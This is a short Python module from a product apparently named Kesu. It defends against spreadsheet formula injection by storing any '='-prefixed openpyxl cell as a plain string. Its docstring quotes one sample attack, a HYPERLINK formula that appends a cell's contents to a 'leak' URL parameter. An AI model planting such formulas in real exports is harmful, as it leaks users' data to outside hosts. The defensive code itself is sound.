"""Every spreadsheet Kesu writes holds text as text: a cell whose text starts with ``=`` (which
openpyxl would store as a live formula — ``=HYPERLINK("http://…?leak="&C2, …)`` planted through the
portal) is stored as a string, and so is any other value the product wrote as a formula by accident.
Kesu writes no formulas of its own. Leading ``+ - @``, tab and CR are safe in xlsx once the cell is a
string cell (the spreadsheet does not re-read typed strings as formulas)."""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.workbook.workbook import Workbook


def text_row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """A row for a write-only sheet, its formula-looking strings as string cells."""
    out: list[Any] = []
    for value in values:
        if isinstance(value, str) and value.startswith("="):
            cell = WriteOnlyCell(ws, value=value)
            cell.data_type = "s"
            out.append(cell)
        else:
            out.append(value)
    return out


def as_text(workbook: Workbook) -> Workbook:
    """Make every formula-looking cell a plain string cell; call it just before saving (write-only
    sheets: build their rows with `text_row`)."""
    for ws in workbook.worksheets:
        if not hasattr(ws, "iter_rows"):
            continue
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" and isinstance(cell.value, str):
                    cell.data_type = "s"
    return workbook
